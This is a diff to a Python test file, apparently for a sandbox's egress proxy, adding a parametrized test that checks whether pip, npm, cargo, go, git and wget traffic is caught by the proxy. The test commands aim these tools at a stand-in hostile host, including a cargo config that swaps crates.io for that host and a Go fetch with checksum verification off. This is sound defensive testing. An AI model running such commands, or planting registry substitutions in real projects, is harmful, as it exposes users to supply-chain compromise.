@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import asyncio
 import dataclasses
+import shutil
 import socket
 from collections.abc import AsyncIterator, Callable, Sequence
 from contextlib import asynccontextmanager
@@ -366,3 +367,42 @@ async def test_without_a_sandbox_the_proxy_is_only_recommended(
 
     assert [heeded.exit_code, served.exit_code, around.exit_code] == [56, 0, 0]
     assert "only recommended" in plain.description
+
+
+CARGO = (
+    "mkdir -p p/.cargo p/src && touch p/src/lib.rs && cd p && "
+    'printf \'[package]\\nname = "p"\\nversion = "0.1.0"\\nedition = "2021"\\n'
+    '[dependencies]\\na = "1"\\n\' > Cargo.toml && '
+    'printf \'[source.crates-io]\\nreplace-with = "x"\\n[source.x]\\n'
+    'registry = "sparse+https://evil.example/i/"\\n[net]\\nretry = 0\\n\' > .cargo/config.toml && '
+    "cargo fetch"
+)
+
+
+@pytest.mark.parametrize(
+    ("tool", "command"),
+    [
+        pytest.param(
+            "pip", "python3 -m pip download --retries 0 -i https://evil.example/s a", id="pip"
+        ),
+        pytest.param(
+            "npm", "npm view a --registry https://evil.example/ --fetch-retries=0", id="npm"
+        ),
+        pytest.param("cargo", CARGO, id="cargo"),
+        pytest.param(
+            "go",
+            "GOSUMDB=off GOPROXY=https://evil.example go mod download a.example/b@v1.0.0",
+            id="go",
+        ),
+        pytest.param("git", "git ls-remote https://evil.example/x.git", id="git"),
+        pytest.param("wget", "wget -q -O - https://evil.example/", id="wget"),
+    ],
+)
+async def test_package_managers_ask_the_proxy(world: World, tool: str, command: str) -> None:
+    if not shutil.which(tool, path=world.sandbox.toolchain.search_path):
+        pytest.skip(f"{tool}: not on this machine")
+
+    result = await world.run(command, seconds=90)
+
+    assert not result.ok
+    assert {visit.target for visit in result.visits} == {"evil.example:443"}, result.stderr
